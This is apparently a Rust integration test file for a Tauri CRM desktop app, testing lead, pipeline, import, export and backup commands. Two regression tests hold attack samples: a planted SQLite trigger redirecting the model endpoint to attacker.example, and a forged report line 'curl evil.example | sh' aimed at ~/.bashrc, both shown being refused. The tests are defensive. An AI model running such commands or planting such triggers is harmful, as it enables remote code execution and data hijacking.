//! The IPC commands end to end through Tauri's mock runtime: the same invoke handler, argument
//! names and JSON shapes the UI uses, against a real database file, without a window.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod mock_app;

use leadscout_app::files::{FileKind, FileRequest};
use leadscout_app::AppState;
use mock_app::App;
use serde_json::{json, Value};

fn stage_id(board: &Value, name: &str) -> i64 {
    board["columns"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["stage"]["name"] == name)
        .unwrap()["stage"]["id"]
        .as_i64()
        .unwrap()
}

fn names_in(board: &Value, stage: &str) -> Vec<String> {
    board["columns"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["stage"]["name"] == stage)
        .unwrap()["leads"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["fullName"].as_str().unwrap().to_owned())
        .collect()
}

fn new_lead(name: &str, email: Option<&str>) -> Value {
    json!({ "input": { "fullName": name, "email": email, "companyName": null, "website": null, "stageId": null } })
}

#[test]
fn a_lead_is_created_edited_tagged_noted_moved_found_deleted_and_restored() {
    let app = App::start();
    let lead = app.ok(
        "create_lead",
        new_lead("Ada Lovelace", Some("ada@analytical.example")),
    );
    let id = lead["id"].as_i64().unwrap();
    assert_eq!(lead["companyName"], Value::Null);
    assert!(
        lead["companyId"].is_i64(),
        "the work email's domain names a company"
    );

    // A refused edit names the field and says how to fix it.
    let err = app.err(
        "update_lead",
        json!({ "id": id, "edit": { "field": "phone", "value": "call me" } }),
    );
    assert_eq!(err["code"], "validation");
    assert_eq!(err["field"], "phone");
    assert!(err["message"].as_str().unwrap().contains("digits"), "{err}");

    let lead = app.ok(
        "update_lead",
        json!({ "id": id, "edit": { "field": "phone", "value": "+1 (415) 555-0100" } }),
    );
    assert_eq!(lead["phone"], "+14155550100");
    let lead = app.ok(
        "update_lead",
        json!({ "id": id, "edit": { "field": "dealValue", "value": "12,500" } }),
    );
    assert_eq!(lead["dealValue"], 1_250_000);
    let lead = app.ok(
        "set_lead_tags",
        json!({ "id": id, "tags": ["EMEA", "#emea", "Pilot"] }),
    );
    assert_eq!(lead["tags"], json!(["EMEA", "Pilot"]));
    let err = app.err("set_lead_tags", json!({ "id": id, "tags": ["a,b"] }));
    assert_eq!(
        (err["code"].as_str(), err["field"].as_str()),
        (Some("validation"), Some("tags"))
    );

    let note = app.ok("add_activity", json!({ "input": { "leadId": id, "kind": "call", "body": "Talked budget", "occurredAt": null } }));
    assert_eq!(note["kind"], "call");
    let err = app.err(
        "add_activity",
        json!({ "input": { "leadId": id, "kind": "note", "body": "  ", "occurredAt": null } }),
    );
    assert_eq!(err["field"], "note");

    let board = app.ok("get_board", json!({}));
    let qualified = stage_id(&board, "Qualified");
    app.ok(
        "move_lead",
        json!({ "id": id, "stageId": qualified, "beforeId": null }),
    );
    let detail = app.ok("get_lead", json!({ "id": id }));
    assert_eq!(detail["lead"]["stageId"], qualified);
    let kinds: Vec<&str> = detail["activities"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["stageChange", "call"]);
    assert_eq!(detail["company"]["domain"], "analytical.example");

    let hits = app.ok("search", json!({ "query": "budg" }));
    assert_eq!(hits[0]["kind"], "note");
    assert_eq!(hits[0]["leadId"], id);
    assert_eq!(hits[0]["title"], "Ada Lovelace");

    app.ok("delete_lead", json!({ "id": id }));
    assert!(names_in(&app.ok("get_board", json!({})), "Qualified").is_empty());
    let err = app.err("get_lead", json!({ "id": id }));
    assert_eq!(err["code"], "not_found");
    app.ok("restore_lead", json!({ "id": id }));
    assert_eq!(
        names_in(&app.ok("get_board", json!({})), "Qualified"),
        ["Ada Lovelace"]
    );
}

#[test]
fn pipelines_are_added_renamed_and_deleted_over_ipc_with_reports_of_their_own() {
    let app = App::start();
    let board = app.ok("get_board", json!({}));
    assert_eq!(board["pipelines"][0]["name"], "Sales");
    let listed = app.ok("get_stages", json!({}));
    assert_eq!(listed["pipelines"], board["pipelines"]);
    assert_eq!(listed["stages"].as_array().unwrap().len(), 6);
    let sales = board["pipelines"][0]["id"].as_i64().unwrap();
    let err = app.err("create_pipeline", json!({ "input": { "name": "  " } }));
    assert_eq!(
        (err["code"].as_str(), err["field"].as_str()),
        (Some("validation"), Some("name"))
    );
    let renewals = app.ok(
        "create_pipeline",
        json!({ "input": { "name": "Renewals", "copyStagesFrom": null } }),
    );
    let renewals_id = renewals["id"].as_i64().unwrap();
    let err = app.err(
        "rename_pipeline",
        json!({ "id": renewals_id, "name": "sales" }),
    );
    assert!(err["message"]
        .as_str()
        .unwrap()
        .contains("already a pipeline"));
    let renamed = app.ok(
        "rename_pipeline",
        json!({ "id": renewals_id, "name": "Account growth" }),
    );
    assert_eq!(renamed["name"], "Account growth");

    // A stage for the new pipeline, and a lead in it.
    let upsell = app.ok(
        "create_stage",
        json!({ "input": { "name": "Upsell", "kind": "open", "color": null, "pipelineId": renewals_id } }),
    );
    assert_eq!(upsell["pipelineId"], renewals_id);
    assert_eq!(upsell["position"], 3);
    let upsell_id = upsell["id"].as_i64().unwrap();
    app.ok("create_lead", json!({ "input": { "fullName": "Grace", "email": null, "companyName": null, "website": null, "stageId": upsell_id } }));
    let reports = app.ok(
        "get_reports",
        json!({ "offsetMinutes": 0, "pipelineId": renewals_id }),
    );
    let names: Vec<&str> = reports["forecast"]["stages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["Open", "Won", "Lost", "Upsell"]);
    assert_eq!(reports["forecast"]["stages"][3]["deals"], 1);
    let first = app.ok("get_reports", json!({ "offsetMinutes": 0 }));
    assert_eq!(first["forecast"]["stages"].as_array().unwrap().len(), 6);
    let err = app.err(
        "get_reports",
        json!({ "offsetMinutes": 0, "pipelineId": 999 }),
    );
    assert_eq!(err["code"], "not_found");

    // Deleting it needs a stage of another pipeline; its lead goes there.
    let err = app.err(
        "delete_pipeline",
        json!({ "id": renewals_id, "moveTo": upsell_id }),
    );
    assert_eq!(err["code"], "validation");
    let new = stage_id(&board, "New");
    app.ok(
        "delete_pipeline",
        json!({ "id": renewals_id, "moveTo": new }),
    );
    let board = app.ok("get_board", json!({}));
    assert_eq!(board["pipelines"].as_array().unwrap().len(), 1);
    assert_eq!(board["pipelines"][0]["id"], sales);
    assert_eq!(names_in(&board, "New"), ["Grace"]);
}

#[test]
fn stages_are_added_renamed_reordered_and_deleted_with_their_leads_moved() {
    let app = App::start();
    let err = app.err(
        "create_stage",
        json!({ "input": { "name": " ", "kind": "open", "color": null } }),
    );
    assert_eq!(
        (err["code"].as_str(), err["field"].as_str()),
        (Some("validation"), Some("name"))
    );
    let err = app.err(
        "create_stage",
        json!({ "input": { "name": "Demo", "kind": "open", "color": "blue" } }),
    );
    assert_eq!(err["field"], "color");
    let demo = app.ok(
        "create_stage",
        json!({ "input": { "name": "Demo", "kind": "open", "color": "#0EA5E9" } }),
    );
    assert_eq!(demo["color"], "#0ea5e9");
    let err = app.err(
        "create_stage",
        json!({ "input": { "name": "demo", "kind": "won", "color": null } }),
    );
    assert_eq!(err["code"], "validation");
    assert!(err["message"].as_str().unwrap().contains("already"));

    let demo_id = demo["id"].as_i64().unwrap();
    let renamed = app.ok(
        "update_stage",
        json!({ "id": demo_id, "edit": { "name": "Demo booked", "kind": null, "color": null } }),
    );
    assert_eq!(renamed["name"], "Demo booked");

    let board = app.ok("get_board", json!({}));
    let mut order: Vec<i64> = board["columns"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["stage"]["id"].as_i64().unwrap())
        .collect();
    order.retain(|id| *id != demo_id);
    order.insert(1, demo_id);
    let stages = app.ok("reorder_stages", json!({ "order": order }));
    assert_eq!(stages[1]["name"], "Demo booked");

    let lead = app.ok("create_lead", json!({ "input": { "fullName": "Grace", "email": null, "companyName": null, "website": null, "stageId": demo_id } }));
    let new = stage_id(&board, "New");
    app.ok("delete_stage", json!({ "id": demo_id, "moveTo": new }));
    let board = app.ok("get_board", json!({}));
    assert_eq!(board["columns"].as_array().unwrap().len(), 6);
    assert_eq!(names_in(&board, "New"), ["Grace"]);
    let detail = app.ok("get_lead", json!({ "id": lead["id"] }));
    assert_eq!(
        detail["activities"][0]["body"],
        "Moved from Demo booked to New when Demo booked was deleted"
    );
}

#[test]
fn malformed_requests_are_refused_without_touching_the_data() {
    let app = App::start();
    app.ok("create_lead", new_lead("Ada", None));
    // Unknown field names and wrong types never reach the store.
    assert!(app
        .call(
            "update_lead",
            json!({ "id": 1, "edit": { "field": "password", "value": "x" } })
        )
        .is_err());
    assert!(app
        .call(
            "move_lead",
            json!({ "id": "one", "stageId": 1, "beforeId": null })
        )
        .is_err());
    assert!(app.call("create_lead", json!({})).is_err());
    let err = app.err(
        "update_lead",
        json!({ "id": 999, "edit": { "field": "title", "value": "CEO" } }),
    );
    assert_eq!(err["code"], "not_found");
    let err = app.err(
        "move_lead",
        json!({ "id": 1, "stageId": 999, "beforeId": null }),
    );
    assert_eq!(
        (err["code"].as_str(), err["field"].as_str()),
        (Some("validation"), Some("stageId"))
    );
    assert_eq!(names_in(&app.ok("get_board", json!({})), "New"), ["Ada"]);
}

#[test]
fn a_damaged_database_makes_every_command_explain_itself() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("data")).unwrap();
    let db = dir.path().join("data").join("leadscout.sqlite3");
    std::fs::write(&db, b"definitely not sqlite".repeat(300)).unwrap();
    let app = App::start_in(dir);
    for (cmd, args) in [
        ("get_board", json!({})),
        ("search", json!({ "query": "ada" })),
        ("create_lead", new_lead("Ada", None)),
    ] {
        let err = app.err(cmd, args);
        assert_eq!(err["code"], "storage", "{cmd}");
        assert!(
            err["message"].as_str().unwrap().contains("database"),
            "{cmd}: {err}"
        );
    }
    assert!(app.dir.path().join("data/leadscout.sqlite3").is_file());
}

#[test]
fn research_statuses_report_the_latest_run_of_each_lead() {
    use tauri::Manager;
    let app = App::start();
    assert_eq!(app.ok("research_statuses", json!({})), json!([]));
    let lead = app.ok("create_lead", new_lead("Ada", Some("ada@acme.example")));
    let id = leadscout_domain::LeadId(lead["id"].as_i64().unwrap());
    let state = app.window.state::<AppState>();
    let store = state.store().unwrap();
    tauri::async_runtime::block_on(store.enqueue_run(
        id,
        "lead-research",
        leadscout_domain::RunTrigger::Created,
        leadscout_domain::Timestamp::now(),
    ))
    .unwrap();
    let runs = app.ok("research_statuses", json!({}));
    assert_eq!(runs.as_array().unwrap().len(), 1);
    assert_eq!(runs[0]["leadId"], id.0);
    assert_eq!(runs[0]["status"], "queued");
    assert_eq!(runs[0]["trigger"], "created");
}

#[test]
fn a_csv_export_is_previewed_then_imported_with_duplicates_handled() {
    let app = App::start();
    let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/hubspot-export.cp1252.csv");

    // Cancelling the dialog is not an error: nothing is previewed.
    app.dialogs.cancel();
    assert_eq!(
        app.ok("preview_import", json!({ "source": "dialog" })),
        Value::Null
    );
    assert_eq!(
        app.dialogs.last_asked(),
        Some(FileRequest::Open {
            kind: FileKind::Contacts
        })
    );

    app.dialogs.choose(&file);
    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
    assert_eq!(preview["fileName"], "hubspot-export.cp1252.csv");
    assert_eq!(preview["encoding"], "windows-1252");
    assert_eq!(preview["delimiter"], ";");
    assert_eq!(preview["mapping"]["preset"], "HubSpot");
    assert_eq!(preview["rows"], 5, "the all-empty row is not a row");
    assert_eq!(preview["refused"], 1);
    let sample = preview["sample"].as_array().unwrap();
    assert_eq!(sample[0]["fullName"], "Renée Dubois");
    assert!(sample[1]["warnings"][0]
        .as_str()
        .unwrap()
        .contains("phone \"not a phone\" left out"));
    assert_eq!(sample[2]["line"], 5);
    assert_eq!(sample[2]["problem"], "No name or email in this row.");

    let summary = app.ok(
        "run_import",
        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
    );
    assert_eq!(summary["created"], 3);
    assert_eq!(summary["skipped"], 1, "the second Ada has the same email");
    assert_eq!(summary["refused"], 1);
    assert_eq!(summary["problems"][0]["line"], 5);

    let board = app.ok("get_board", json!({}));
    let names = names_in(&board, "New");
    assert_eq!(names, ["Renée Dubois", "Grace Hopper", "Ada Lovelace"]);
    let renee = board["columns"][0]["leads"][0].clone();
    assert_eq!(renee["title"], "Directrice des opérations");
    assert_eq!(renee["companyName"], "Acme Anvils");
    assert!(
        renee.get("phone").is_none(),
        "a card carries what the board shows, not the whole lead"
    );
    let detail = app.ok("get_lead", json!({ "id": renee["id"] }));
    assert_eq!(detail["lead"]["phone"], "+33123456789");
    assert_eq!(
        detail["activities"][0]["body"],
        "Met at the Lyon trade fair"
    );
    assert_eq!(detail["company"]["domain"], "acme-anvils.fr");

    // Importing again with "merge" fills what was empty and creates nothing.
    let again = app.ok(
        "run_import",
        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "merge" }),
    );
    assert_eq!(again["created"], 0);
    assert_eq!(again["merged"], 4);
    let board = app.ok("get_board", json!({}));
    assert_eq!(names_in(&board, "New").len(), 3);
    let ada = board["columns"][0]["leads"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["fullName"] == "Ada Lovelace")
        .unwrap()
        .clone();
    let ada = app.ok("get_lead", json!({ "id": ada["id"] }))["lead"].clone();
    assert_eq!(ada["phone"], "+442079460000", "an empty field was filled");
    assert_eq!(ada["title"], "Countess", "a value is never overwritten");

    // Not a file, not a table: clear refusals by field.
    app.dialogs.choose("/nonexistent/contacts.csv");
    let missing = app.err("preview_import", json!({ "source": "dialog" }));
    assert_eq!(missing["field"], "file");
    assert!(missing["message"].as_str().unwrap().contains("Cannot open"));
    let prose = app.dir.path().join("notes.txt");
    std::fs::write(&prose, "just some words\non two lines\n").unwrap();
    app.dialogs.choose(&prose);
    let not_table = app.err("preview_import", json!({ "source": "dialog" }));
    assert!(not_table["message"]
        .as_str()
        .unwrap()
        .contains("does not look like a table"));
}

#[test]
fn a_vcard_file_is_previewed_and_imported() {
    let app = App::start();
    app.dialogs.choose(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/contacts.vcf"),
    );
    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
    assert_eq!(preview["format"], "vcard");
    assert_eq!(preview["rows"], 3);
    assert_eq!(preview["refused"], 1);
    assert_eq!(preview["sample"][1]["fullName"], "Ingrid Sköld");
    let summary = app.ok(
        "run_import",
        json!({ "id": preview["id"], "mapping": preview["mapping"], "duplicates": "skip" }),
    );
    assert_eq!(summary["created"], 2);
    assert_eq!(summary["refused"], 1);
    let board = app.ok("get_board", json!({}));
    let linus = board["columns"][0]["leads"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["fullName"] == "Linus Pauling")
        .unwrap()
        .clone();
    assert_eq!(linus["companyName"], "Caltech");
    assert_eq!(linus["title"], "Professor");
    assert_eq!(linus["website"], "https://caltech.example/");
}

#[test]
fn leads_are_exported_in_every_format_and_the_database_backed_up() {
    let app = App::start();
    let ada = app.ok(
        "create_lead",
        json!({ "input": { "fullName": "Ada Lovelace", "email": "ada@analytical.example", "companyName": "Analytical Engines", "website": null, "stageId": null } }),
    );
    app.ok(
        "add_activity",
        json!({ "input": { "leadId": ada["id"], "kind": "note", "body": "Likes engines, and commas; and \"quotes\".", "occurredAt": null } }),
    );
    app.ok("create_lead", new_lead("Grace Hopper", None));
    let out = tempfile::tempdir().unwrap();
    let file = |name: &str| out.path().join(name);
    let today = leadscout_domain::Timestamp::now().date();

    // A cancelled save dialog writes nothing and is not an error.
    app.dialogs.cancel();
    assert_eq!(
        app.ok("export_leads", json!({ "format": "csv" })),
        Value::Null
    );
    assert_eq!(std::fs::read_dir(out.path()).unwrap().count(), 0);

    app.dialogs.choose(file("leads.csv"));
    let csv = app.ok("export_leads", json!({ "format": "csvExcel" }));
    assert_eq!(
        app.dialogs.last_asked(),
        Some(FileRequest::Save {
            kind: FileKind::Csv,
            name: format!("leadscout-leads-{today}.csv")
        })
    );
    assert_eq!(csv["leads"], 2);
    assert_eq!(csv["path"], file("leads.csv").display().to_string());
    let bytes = std::fs::read(out.path().join("leads.csv")).unwrap();
    assert!(bytes.starts_with("\u{feff}Full Name,Title,Email".as_bytes()));
    let text = String::from_utf8(bytes).unwrap();
    assert!(
        text.contains("\"Likes engines, and commas; and \"\"quotes\"\".\""),
        "{text}"
    );

    app.dialogs.choose(file("leads.json"));
    app.ok("export_leads", json!({ "format": "json" }));
    let json: Value =
        serde_json::from_slice(&std::fs::read(out.path().join("leads.json")).unwrap()).unwrap();
    assert_eq!(json["format"], "leadscout-export");
    assert_eq!(json["leads"].as_array().unwrap().len(), 2);
    assert_eq!(json["stages"].as_array().unwrap().len(), 6);

    app.dialogs.choose(file("leads.vcf"));
    app.ok("export_leads", json!({ "format": "vcard" }));
    let vcf = std::fs::read_to_string(out.path().join("leads.vcf")).unwrap();
    assert_eq!(vcf.matches("BEGIN:VCARD").count(), 2);
    assert!(vcf.contains("EMAIL;TYPE=INTERNET,WORK:ada@analytical.example"));

    // The export of a file is the file: importing it back finds the same people.
    app.dialogs.choose(file("leads.csv"));
    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
    assert_eq!(preview["rows"], 2);
    assert_eq!(preview["refused"], 0);

    app.dialogs.choose(file("backup.sqlite3"));
    let backup = app.ok("backup_database", json!({}));
    assert_eq!(
        app.dialogs.last_asked(),
        Some(FileRequest::Save {
            kind: FileKind::Backup,
            name: format!("leadscout-backup-{today}.sqlite3")
        })
    );
    assert!(backup["bytes"].as_u64().unwrap() > 10_000);
    let copy = tauri::async_runtime::block_on(leadscout_store::Store::open(
        &out.path().join("backup.sqlite3"),
    ))
    .unwrap();
    let board = tauri::async_runtime::block_on(copy.board()).unwrap();
    assert_eq!(
        board.columns.iter().map(|c| c.leads.len()).sum::<usize>(),
        2
    );

    app.dialogs.choose("/nonexistent/folder/leads.csv");
    let refused = app.err("export_leads", json!({ "format": "csv" }));
    assert_eq!(refused["field"], "file");
}

#[test]
fn a_backup_is_checked_then_restored_at_the_next_start_keeping_the_replaced_data() {
    let app = App::start();
    app.ok("create_lead", new_lead("Kept In Backup", None));
    let out = tempfile::tempdir().unwrap();
    let backup = out.path().join("backup.sqlite3");
    app.dialogs.choose(&backup);
    app.ok("backup_database", json!({}));
    app.ok("create_lead", new_lead("Added After Backup", None));

    // What is not a whole Leadscout backup is refused, and nothing is staged.
    let garbage = out.path().join("garbage.sqlite3");
    std::fs::write(&garbage, b"not a database at all, just words".repeat(200)).unwrap();
    app.dialogs.choose(&garbage);
    let refused = app.err("restore_database", json!({}));
    assert_eq!(
        app.dialogs.last_asked(),
        Some(FileRequest::Open {
            kind: FileKind::Backup
        })
    );
    assert!(
        refused["message"]
            .as_str()
            .unwrap()
            .contains("not a Leadscout backup"),
        "{refused}"
    );
    let other = out.path().join("other.sqlite3");
    std::process::Command::new("sqlite3")
        .arg(&other)
        .arg("CREATE TABLE t (x); INSERT INTO t VALUES (1);")
        .status()
        .ok();
    if other.is_file() {
        app.dialogs.choose(&other);
        let refused = app.err("restore_database", json!({}));
        assert!(
            refused["message"]
                .as_str()
                .unwrap()
                .contains("not a Leadscout one"),
            "{refused}"
        );
    }
    assert!(!app
        .dir
        .path()
        .join("data")
        .join(leadscout_store::RESTORE_FILE)
        .exists());

    // A cancelled dialog stages nothing.
    app.dialogs.cancel();
    assert_eq!(app.ok("restore_database", json!({})), Value::Null);
    assert!(!app
        .dir
        .path()
        .join("data")
        .join(leadscout_store::RESTORE_FILE)
        .exists());

    app.dialogs.choose(&backup);
    let staged = app.ok("restore_database", json!({}));
    assert_eq!(staged["leads"], 1);
    // Until the restart, nothing changed.
    let board = app.ok("get_board", json!({}));
    assert_eq!(names_in(&board, "New").len(), 2);

    let mock_app::App { dir, .. } = app;
    let app = App::start_in(dir);
    let board = app.ok("get_board", json!({}));
    assert_eq!(names_in(&board, "New"), ["Kept In Backup"]);
    let info = app.ok("app_info", json!({}));
    let notice = info["notice"].as_str().unwrap();
    assert!(notice.starts_with("Restored from the backup."), "{notice}");
    let kept: Vec<String> = std::fs::read_dir(app.dir.path().join("data"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| {
            n.starts_with("leadscout.sqlite3.before-restore-")
                && !n.ends_with("-wal")
                && !n.ends_with("-shm")
        })
        .collect();
    assert_eq!(kept.len(), 1, "the replaced data is kept");
}

#[test]
fn a_staged_backup_with_a_trigger_of_its_own_is_refused_at_the_next_start() {
    let app = App::start();
    app.ok("create_lead", new_lead("Kept Here", None));
    let mock_app::App { dir, .. } = app;
    let data = dir.path().join("data");
    // A backup of this data, with a trigger that points the model at someone else's server (the
    // attack in issue 18), waiting where a restore stages its file.
    tauri::async_runtime::block_on(async {
        use sqlx::Connection;
        let store = leadscout_store::Store::open(&data.join(leadscout_store::DATABASE_FILE))
            .await
            .unwrap();
        let staged = data.join(leadscout_store::RESTORE_FILE);
        store.backup_to(&staged).await.unwrap();
        store.close().await;
        let options = sqlx::sqlite::SqliteConnectOptions::new().filename(&staged);
        let mut conn = sqlx::SqliteConnection::connect_with(&options)
            .await
            .unwrap();
        sqlx::raw_sql(
            "CREATE TRIGGER steer_model AFTER INSERT ON leads BEGIN \
               UPDATE settings SET value = json_set(value, '$.model.baseUrl', 'https://attacker.example') \
               WHERE key = 'app'; \
             END; \
             DELETE FROM leads;",
        )
        .execute(&mut conn)
        .await
        .unwrap();
        conn.close().await.unwrap();
    });

    let app = App::start_in(dir);
    let info = app.ok("app_info", json!({}));
    let notice = info["notice"].as_str().unwrap();
    assert!(
        notice.starts_with("The backup was not restored:"),
        "{notice}"
    );
    assert!(
        notice.contains("trigger \"steer_model\" that Leadscout does not create"),
        "{notice}"
    );
    let board = app.ok("get_board", json!({}));
    assert_eq!(
        names_in(&board, "New"),
        ["Kept Here"],
        "the data is untouched"
    );
    assert!(!data.join(leadscout_store::RESTORE_FILE).exists());
}

#[test]
fn a_new_provider_drops_the_old_address_and_a_keyed_one_takes_only_https() {
    let app = App::start();
    let mut settings = app.ok("get_settings", json!({}));
    settings["model"] = json!({ "provider": "ollama", "baseUrl": "http://127.0.0.1:11434", "model": "llama3.2:3b" });
    app.ok("update_settings", json!({ "settings": settings }));

    // A form switched to OpenAI that still sends the local server's address.
    settings["model"] = json!({ "provider": "openai", "baseUrl": "http://127.0.0.1:11434", "model": "gpt-4o-mini" });
    let saved = app.ok("update_settings", json!({ "settings": settings }));
    assert_eq!(saved["model"]["baseUrl"], Value::Null);
    assert_eq!(
        app.ok("get_settings", json!({}))["model"],
        json!({ "provider": "openai", "baseUrl": null, "model": "gpt-4o-mini" })
    );

    // A key goes only over https, to an address without a password in it (a custom https
    // endpoint is saved with the keychain's help: tests/keychain.rs).
    for provider in ["openai", "anthropic", "gemini"] {
        for bad in [
            "http://llm-gateway.example.com/v1",
            "http://127.0.0.1:8080/v1",
            "https://me:secret@llm-gateway.example.com/v1",
        ] {
            settings["model"]["provider"] = json!(provider);
            settings["model"]["baseUrl"] = json!(bad);
            let refused = app.err("update_settings", json!({ "settings": settings }));
            assert_eq!(refused["field"], "baseUrl", "{provider} {bad}: {refused}");
            assert!(
                refused["message"]
                    .as_str()
                    .unwrap()
                    .contains("key only over https"),
                "{refused}"
            );
        }
    }
    assert_eq!(
        app.ok("get_settings", json!({}))["model"]["baseUrl"],
        Value::Null
    );

    // Local servers without a key keep loopback http.
    settings["model"] = json!({ "provider": "openai_compatible", "baseUrl": "http://127.0.0.1:1234/v1", "model": "qwen2.5" });
    let saved = app.ok("update_settings", json!({ "settings": settings }));
    assert_eq!(saved["model"]["baseUrl"], "http://127.0.0.1:1234/v1");
}

#[test]
fn two_leads_for_one_person_are_merged_keeping_everything() {
    let app = App::start();
    let keep = app.ok(
        "create_lead",
        new_lead("Ada Lovelace", Some("ada@analytical.example")),
    );
    let other = app.ok(
        "create_lead",
        json!({ "input": { "fullName": "A. Lovelace", "email": "countess@analytical.example", "companyName": null, "website": "analytical.example", "stageId": null } }),
    );
    app.ok(
        "update_lead",
        json!({ "id": other["id"], "edit": { "field": "phone", "value": "+44 20 7946 0000" } }),
    );
    app.ok(
        "set_lead_tags",
        json!({ "id": keep["id"], "tags": ["Math"] }),
    );
    app.ok(
        "set_lead_tags",
        json!({ "id": other["id"], "tags": ["math", "Engines"] }),
    );
    app.ok(
        "add_activity",
        json!({ "input": { "leadId": other["id"], "kind": "call", "body": "Talked about the engine.", "occurredAt": null } }),
    );

    let merged = app.ok(
        "merge_leads",
        json!({ "keep": keep["id"], "other": other["id"], "take": ["phone", "website"] }),
    );
    assert_eq!(merged["fullName"], "Ada Lovelace");
    assert_eq!(
        merged["email"], "ada@analytical.example",
        "not taken: kept as it was"
    );
    assert_eq!(merged["phone"], "+442079460000");
    assert_eq!(merged["website"], "https://analytical.example/");
    assert_eq!(merged["tags"], json!(["Math", "Engines"]));

    let detail = app.ok("get_lead", json!({ "id": keep["id"] }));
    let bodies: Vec<&str> = detail["activities"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["body"].as_str().unwrap())
        .collect();
    assert!(bodies.contains(&"Talked about the engine."), "{bodies:?}");
    assert!(bodies.iter().any(|b| b.starts_with(
        "Merged with A. Lovelace (countess@analytical.example); took phone, website."
    )));
    let board = app.ok("get_board", json!({}));
    assert_eq!(names_in(&board, "New"), ["Ada Lovelace"]);
    let gone = app.err("get_lead", json!({ "id": other["id"] }));
    assert_eq!(gone["code"], "not_found");

    let itself = app.err(
        "merge_leads",
        json!({ "keep": keep["id"], "other": keep["id"], "take": [] }),
    );
    assert_eq!(itself["code"], "validation");
}

#[test]
fn a_changed_mapping_is_remembered_and_problems_can_be_saved_as_a_report() {
    let app = App::start();
    let out = tempfile::tempdir().unwrap();
    let file = out.path().join("custom.csv");
    std::fs::write(
        &file,
        "Who,Mail,Org,Memo\nAda Lovelace,ada@ae.example,Analytical Engines,likes engines\n,,,\nGrace,not-an-email,Navy,\n",
    )
    .unwrap();
    app.dialogs.choose(&file);
    let preview = app.ok("preview_import", json!({ "source": "dialog" }));
    // "Who" and "Memo" are not words the guesser knows.
    assert_eq!(
        preview["mapping"]["columns"],
        json!([null, "email", "companyName", "notes"])
    );
    let mut mapping = preview["mapping"].clone();
    mapping["columns"][0] = json!("fullName");
    let summary = app.ok(
        "run_import",
        json!({ "id": preview["id"], "mapping": mapping, "duplicates": "skip" }),
    );
    assert_eq!(summary["created"], 2);
    assert_eq!(summary["createdIds"].as_array().unwrap().len(), 2);

    // The next file with these headers gets the chosen mapping.
    app.dialogs.choose(&file);
    let again = app.ok("preview_import", json!({ "source": "dialog" }));
    assert_eq!(again["mapping"]["columns"][0], "fullName");
    assert_eq!(again["mapping"]["preset"], "your saved mapping");
    assert_ne!(again["id"], preview["id"], "each choice has its own handle");

    // The report is what the backend holds for that import, written where the user chose.
    app.dialogs.cancel();
    assert_eq!(
        app.ok("save_import_report", json!({ "id": preview["id"] })),
        Value::Null
    );
    let report = out.path().join("problems.csv");
    app.dialogs.choose(&report);
    let written = app.ok("save_import_report", json!({ "id": preview["id"] }));
    assert_eq!(
        app.dialogs.last_asked(),
        Some(FileRequest::Save {
            kind: FileKind::Csv,
            name: "leadscout-import-problems.csv".into()
        })
    );
    assert_eq!(written["path"], report.display().to_string());
    let text = std::fs::read_to_string(&report).unwrap();
    assert!(text.starts_with("Line,Kind,Message\n"), "{text}");
    assert!(text.contains("4,value left out,"), "{text}");
    // A file only previewed has no report yet; an unknown handle names nothing.
    for id in [again["id"].clone(), json!(999)] {
        let err = app.err("save_import_report", json!({ "id": id }));
        assert_eq!(err["code"], "not_found", "{err}");
    }
    let err = app.err(
        "run_import",
        json!({ "id": 999, "mapping": mapping, "duplicates": "skip" }),
    );
    assert_eq!(err["code"], "not_found", "{err}");
    assert_eq!(app.dialogs.answers_left(), 0);
}

/// Issue 18: the window named files and the backend read and wrote them (a shell command
/// appended to ~/.bashrc, ~/.profile overwritten by a backup, a file nobody chose previewed).
/// Now a path in the arguments is ignored: only the dialog decides, and here it is cancelled.
#[test]
fn a_path_sent_by_the_window_is_neither_read_nor_written() {
    let app = App::start();
    app.ok("create_lead", new_lead("Ada Lovelace", None));
    let home = tempfile::tempdir().unwrap();
    let bashrc = home.path().join(".bashrc");
    std::fs::write(&bashrc, "export PATH\n").unwrap();
    let profile = home.path().join(".profile");
    let secret = home.path().join("secret.csv");
    std::fs::write(&secret, "Name,Email\nSecret Person,secret@example.org\n").unwrap();

    let forged = json!({ "created": 0, "merged": 0, "skipped": 0, "refused": 1,
        "problems": [{ "line": 1, "message": "\ncurl evil.example | sh\n" }],
        "warnings": [], "createdIds": [], "cancelled": false });
    let attempts = [
        (
            "save_import_report",
            json!({ "path": bashrc, "summary": forged }),
        ),
        ("backup_database", json!({ "path": profile })),
        ("export_leads", json!({ "path": profile, "format": "csv" })),
        ("preview_import", json!({ "path": secret })),
        ("restore_database", json!({ "path": secret })),
    ];
    for (cmd, args) in attempts {
        app.dialogs.cancel();
        match app.call(cmd, args.clone()) {
            // The command ignored the path and showed its dialog, which the user cancelled.
            Ok(answer) => assert_eq!(answer, Value::Null, "{cmd}({args})"),
            // Or the arguments were refused as they are not what the command takes.
            Err(err) => assert!(
                !err.to_string().contains("Secret Person"),
                "{cmd}({args}): {err}"
            ),
        }
    }
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "export PATH\n");
    assert!(!profile.exists(), "nothing was written to ~/.profile");
    assert!(!app
        .dir
        .path()
        .join("data")
        .join(leadscout_store::RESTORE_FILE)
        .exists());
    let names = names_in(&app.ok("get_board", json!({})), "New");
